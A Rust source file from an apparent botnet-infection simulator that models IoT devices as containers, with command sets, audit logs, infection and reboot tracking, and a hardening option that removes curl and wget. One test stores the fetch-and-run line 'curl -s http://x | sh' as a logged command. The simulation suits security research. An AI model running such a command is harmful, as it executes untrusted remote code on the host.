//! Containers: the Docker substitute.
//!
//! A container is the bookkeeping shared by the applications running on one
//! ghost node: a filesystem, a process table, the set of available shell
//! commands, an audit log, and memory accounting. Containers exist because
//! the paper's Devs *are* Docker containers — the infection chain
//! manipulates files, processes, and commands inside them.

use crate::fs::SimFs;
use crate::proc::{Pid, ProcTable};
use netsim::{AppId, NodeId, SimTime};
use std::cell::RefCell;
use std::collections::BTreeSet;
use std::fmt;
use std::rc::Rc;
use std::sync::Arc;
use tinyvm::Arch;

/// Per-process memory overhead charged in accounting (page tables, stacks).
pub const PROC_OVERHEAD_BYTES: u64 = 512 * 1024;

/// The set of shell commands available in a container image.
///
/// The paper's §IV-C insight — "firmware vendors may choose not to
/// install the `curl` command" — is an ablation over this set.
///
/// The underlying set is `Arc`-shared: every device built from the same
/// image configuration clones a pointer, not a `BTreeSet` of strings
/// (flyweight — one stored command list per distinct configuration, not
/// per container). Mutating constructors copy-on-write.
///
/// # Examples
///
/// ```
/// use firmware::CommandSet;
///
/// let hardened = CommandSet::without(&["curl", "wget"]);
/// assert!(!hardened.contains("curl"));
/// assert!(hardened.contains("sh"));
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandSet(Arc<BTreeSet<String>>);

impl CommandSet {
    /// The busybox-ish default found in IoT firmware.
    pub fn standard() -> Self {
        CommandSet(Arc::new(
            ["sh", "curl", "wget", "chmod", "rm", "cd", "ps", "kill", "export"]
                .into_iter()
                .map(str::to_owned)
                .collect(),
        ))
    }

    /// The standard set minus the given commands (hardening ablation).
    pub fn without(commands: &[&str]) -> Self {
        let mut set = CommandSet::standard();
        let inner = Arc::make_mut(&mut set.0);
        for c in commands {
            inner.remove(*c);
        }
        set
    }

    /// Whether `command` is available.
    pub fn contains(&self, command: &str) -> bool {
        self.0.contains(command)
    }

    /// The available commands in sorted order (serialization, digests).
    pub fn iter(&self) -> impl Iterator<Item = &str> {
        self.0.iter().map(String::as_str)
    }

    /// Builds a set holding exactly the given commands.
    pub fn from_list<I, S>(commands: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        CommandSet(Arc::new(commands.into_iter().map(Into::into).collect()))
    }
}

impl Default for CommandSet {
    fn default() -> Self {
        CommandSet::standard()
    }
}

/// Audit-log entries recorded inside a container (the basis of the paper's
/// §IV-C insights, e.g. observing that `curl` was used for infection).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ContainerEvent {
    /// A shell command ran.
    CommandRun {
        /// When.
        time: SimTime,
        /// The command line.
        command: String,
    },
    /// A shell command was requested but is not installed.
    CommandMissing {
        /// When.
        time: SimTime,
        /// The missing command.
        command: String,
    },
    /// A file was downloaded.
    Downloaded {
        /// When.
        time: SimTime,
        /// Destination path.
        path: String,
        /// Bytes received.
        bytes: u64,
    },
    /// An executable was launched.
    Executed {
        /// When.
        time: SimTime,
        /// Path executed.
        path: String,
    },
    /// A daemon crashed (failed exploit under ASLR, etc.).
    DaemonCrashed {
        /// When.
        time: SimTime,
        /// Daemon name.
        daemon: String,
    },
    /// An exploit was blocked by a memory defense.
    ExploitBlocked {
        /// When.
        time: SimTime,
        /// Daemon name.
        daemon: String,
    },
    /// A process was killed (bot self-defense).
    ProcessKilled {
        /// When.
        time: SimTime,
        /// Victim process name.
        name: String,
    },
    /// The device rebooted: volatile state (downloads, running malware)
    /// was lost. Mirai does not persist, so a rebooted device is
    /// susceptible again.
    Rebooted {
        /// When.
        time: SimTime,
    },
}

/// Mutable container state (shared between the node's applications).
#[derive(Debug, Clone)]
pub struct ContainerState {
    /// Container name.
    pub name: String,
    /// CPU architecture of the image.
    pub arch: Arch,
    /// The ghost node this container is bridged to.
    pub node: NodeId,
    /// Filesystem.
    pub fs: SimFs,
    /// Process table.
    pub procs: ProcTable,
    /// Available shell commands.
    pub commands: CommandSet,
    /// Base image size (layers, libraries) in bytes.
    pub image_bytes: u64,
    /// When the bot started running, if the device was recruited.
    pub infected_at: Option<SimTime>,
    /// Whether a bot is currently alive in this container (cleared by
    /// reboots; the attacker's reconciler re-exploits when false).
    pub bot_alive: bool,
    /// Times the device has been (re-)infected.
    pub infection_count: u32,
    /// Times the device has rebooted.
    pub reboot_count: u32,
    /// Audit log.
    pub events: Vec<ContainerEvent>,
}

/// Shared handle to a container.
#[derive(Debug, Clone)]
pub struct ContainerHandle(Rc<RefCell<ContainerState>>);

impl ContainerHandle {
    /// Creates a container bridged to `node`, with an empty filesystem.
    pub fn new(
        name: impl Into<String>,
        arch: Arch,
        node: NodeId,
        commands: CommandSet,
        image_bytes: u64,
    ) -> Self {
        ContainerHandle::with_fs(name, arch, node, commands, image_bytes, SimFs::new())
    }

    /// Creates a container bridged to `node` with the given initial
    /// filesystem (typically [`SimFs::from_template`] over a shared image
    /// template).
    pub(crate) fn with_fs(
        name: impl Into<String>,
        arch: Arch,
        node: NodeId,
        commands: CommandSet,
        image_bytes: u64,
        fs: SimFs,
    ) -> Self {
        ContainerHandle(Rc::new(RefCell::new(ContainerState {
            name: name.into(),
            arch,
            node,
            fs,
            procs: ProcTable::new(),
            commands,
            image_bytes,
            infected_at: None,
            bot_alive: false,
            infection_count: 0,
            reboot_count: 0,
            events: Vec::new(),
        })))
    }

    /// Borrows the state immutably.
    ///
    /// # Panics
    ///
    /// Panics if the state is already borrowed mutably (re-entrant use).
    pub fn state(&self) -> std::cell::Ref<'_, ContainerState> {
        self.0.borrow()
    }

    /// Borrows the state mutably.
    ///
    /// # Panics
    ///
    /// Panics if the state is already borrowed (re-entrant use).
    pub fn state_mut(&self) -> std::cell::RefMut<'_, ContainerState> {
        self.0.borrow_mut()
    }

    /// The container's ghost node.
    pub fn node(&self) -> NodeId {
        self.0.borrow().node
    }

    /// The container's architecture.
    pub fn arch(&self) -> Arch {
        self.0.borrow().arch
    }

    /// Records an audit event.
    pub fn log(&self, event: ContainerEvent) {
        self.0.borrow_mut().events.push(event);
    }

    /// Marks the container as recruited into the botnet.
    pub fn mark_infected(&self, at: SimTime) {
        let mut s = self.0.borrow_mut();
        if s.infected_at.is_none() {
            s.infected_at = Some(at);
        }
        s.bot_alive = true;
        s.infection_count += 1;
    }

    /// Whether the container has *ever* been recruited.
    pub fn is_infected(&self) -> bool {
        self.0.borrow().infected_at.is_some()
    }

    /// Whether a bot is alive right now (false after a reboot until
    /// re-infection).
    pub fn bot_alive(&self) -> bool {
        self.0.borrow().bot_alive
    }

    /// Reboots the device's volatile state: every process except the
    /// firmware daemon dies (their netsim apps are returned for the caller
    /// to remove), `/tmp` downloads vanish, and the bot-alive flag clears —
    /// Mirai does not survive reboots. The daemon process (named after the
    /// image binary) survives, as init restarts it.
    pub fn reboot(&self, at: SimTime, daemon_names: &[&str]) -> Vec<netsim::AppId> {
        let mut s = self.0.borrow_mut();
        let mut killed_apps = Vec::new();
        let doomed: Vec<crate::proc::Pid> = s
            .procs
            .iter()
            .filter(|p| !daemon_names.contains(&p.name.as_str()))
            .map(|p| p.pid)
            .collect();
        for pid in doomed {
            if let Some(Some(app)) = s.procs.kill(pid) {
                killed_apps.push(app);
            }
        }
        s.fs.remove_prefix("/tmp/");
        s.bot_alive = false;
        s.reboot_count += 1;
        s.events.push(ContainerEvent::Rebooted { time: at });
        killed_apps
    }

    /// Registers a process.
    pub fn register_proc(
        &self,
        name: impl Into<String>,
        app: Option<AppId>,
        ports: Vec<u16>,
    ) -> Pid {
        self.0.borrow_mut().procs.register(name, app, ports)
    }

    /// Total memory charged to this container: image layers + files +
    /// per-process overhead.
    pub(crate) fn memory_bytes(&self) -> u64 {
        let s = self.0.borrow();
        s.image_bytes + s.fs.total_bytes() + s.procs.len() as u64 * PROC_OVERHEAD_BYTES
    }

    /// Opaque identity of this handle's shared allocation — the key under
    /// which [`ContainerRuntime::fork`] registers the forked replacement
    /// in a [`netsim::ForkMap`].
    pub(crate) fn fork_key(&self) -> usize {
        Rc::as_ptr(&self.0) as usize
    }
}

impl netsim::ForkClone for ContainerHandle {
    /// Translates the handle to its forked counterpart. The runtime must
    /// have been forked first (registering every container).
    ///
    /// # Panics
    ///
    /// Panics if the container was never registered in `map` — forking
    /// state that references an untracked container is a bug, not a
    /// recoverable condition.
    fn fork_clone(&self, map: &netsim::ForkMap) -> Self {
        map.get::<ContainerHandle>(self.fork_key())
            .expect("container registered in the fork map before app forking")
    }
}

/// The container runtime: builds containers and aggregates accounting —
/// the analogue of the Docker daemon plus NS3DockerEmulator's bridges.
#[derive(Debug, Default)]
pub struct ContainerRuntime {
    containers: Vec<ContainerHandle>,
}

impl ContainerRuntime {
    /// An empty runtime.
    pub fn new() -> Self {
        ContainerRuntime::default()
    }

    /// Builds a container and registers it with the runtime.
    pub fn create(
        &mut self,
        name: impl Into<String>,
        arch: Arch,
        node: NodeId,
        commands: CommandSet,
        image_bytes: u64,
    ) -> ContainerHandle {
        let handle = ContainerHandle::new(name, arch, node, commands, image_bytes);
        self.containers.push(handle.clone());
        handle
    }

    /// Builds a container whose filesystem starts from a shared image
    /// template and registers it with the runtime. `image_bytes` should
    /// account only for what is *not* in the template (base layers) — the
    /// template's files are charged through the filesystem.
    pub fn create_from_template(
        &mut self,
        name: impl Into<String>,
        arch: Arch,
        node: NodeId,
        commands: CommandSet,
        image_bytes: u64,
        template: crate::fs::FsTemplate,
    ) -> ContainerHandle {
        let handle = ContainerHandle::with_fs(
            name,
            arch,
            node,
            commands,
            image_bytes,
            SimFs::from_template(template),
        );
        self.containers.push(handle.clone());
        handle
    }

    /// All containers.
    pub fn containers(&self) -> &[ContainerHandle] {
        &self.containers
    }

    /// Number of containers.
    pub fn len(&self) -> usize {
        self.containers.len()
    }

    /// Whether the runtime has no containers.
    pub fn is_empty(&self) -> bool {
        self.containers.is_empty()
    }

    /// Total memory charged to all containers (Table I's pre-attack
    /// component).
    pub fn total_memory_bytes(&self) -> u64 {
        self.containers.iter().map(ContainerHandle::memory_bytes).sum()
    }

    /// Number of recruited containers.
    pub fn infected_count(&self) -> usize {
        self.containers.iter().filter(|c| c.is_infected()).count()
    }

    /// Deep-clones every container into fresh, independent handles and
    /// registers each old-handle → new-handle translation in `map`, so
    /// applications forked afterwards resolve the forked containers
    /// instead of aliasing the parent's.
    pub fn fork(&self, map: &mut netsim::ForkMap) -> ContainerRuntime {
        let mut containers = Vec::with_capacity(self.containers.len());
        for c in &self.containers {
            let forked = ContainerHandle(Rc::new(RefCell::new(c.state().clone())));
            map.register(c.fork_key(), forked.clone());
            containers.push(forked);
        }
        ContainerRuntime { containers }
    }

    /// Infection times, sorted (the botnet's growth curve; feeds the
    /// epidemic-model use case).
    pub fn infection_times(&self) -> Vec<SimTime> {
        let mut times: Vec<SimTime> = self
            .containers
            .iter()
            .filter_map(|c| c.state().infected_at)
            .collect();
        times.sort_unstable();
        times
    }
}

impl fmt::Display for ContainerState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} [{}] {} procs, {} files",
            self.name,
            self.arch,
            self.procs.len(),
            self.fs.file_count()
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fs::{FileEntry, FileKind};

    fn handle() -> ContainerHandle {
        ContainerHandle::new(
            "dev-0",
            Arch::X86_64,
            NodeId::from_index(0),
            CommandSet::standard(),
            4_000_000,
        )
    }

    #[test]
    fn standard_commands_include_curl() {
        let c = CommandSet::standard();
        assert!(c.contains("curl"));
        assert!(c.contains("sh"));
        assert!(!c.contains("gcc"));
    }

    #[test]
    fn without_removes_commands() {
        let c = CommandSet::without(&["curl", "wget"]);
        assert!(!c.contains("curl"));
        assert!(!c.contains("wget"));
        assert!(c.contains("sh"));
    }

    #[test]
    fn infection_is_latched_once() {
        let h = handle();
        assert!(!h.is_infected());
        h.mark_infected(SimTime::from_secs(5));
        h.mark_infected(SimTime::from_secs(9));
        assert_eq!(h.state().infected_at, Some(SimTime::from_secs(5)));
    }

    #[test]
    fn memory_counts_image_files_and_procs() {
        let h = handle();
        let base = h.memory_bytes();
        assert_eq!(base, 4_000_000);
        h.state_mut().fs.write(
            "/tmp/bot",
            FileEntry {
                kind: FileKind::Data,
                size_bytes: 100_000,
                executable: false,
            },
        );
        h.register_proc("bot", None, vec![]);
        assert_eq!(h.memory_bytes(), 4_000_000 + 100_000 + PROC_OVERHEAD_BYTES);
    }

    #[test]
    fn runtime_aggregates() {
        let mut rt = ContainerRuntime::new();
        let a = rt.create("a", Arch::X86_64, NodeId::from_index(0), CommandSet::standard(), 1000);
        let _b = rt.create("b", Arch::Arm7, NodeId::from_index(1), CommandSet::standard(), 2000);
        assert_eq!(rt.len(), 2);
        assert_eq!(rt.total_memory_bytes(), 3000);
        assert_eq!(rt.infected_count(), 0);
        a.mark_infected(SimTime::from_secs(3));
        assert_eq!(rt.infected_count(), 1);
        assert_eq!(rt.infection_times(), vec![SimTime::from_secs(3)]);
    }

    #[test]
    fn audit_log_records_events() {
        let h = handle();
        h.log(ContainerEvent::CommandRun {
            time: SimTime::ZERO,
            command: "curl -s http://x | sh".into(),
        });
        assert_eq!(h.state().events.len(), 1);
    }
}
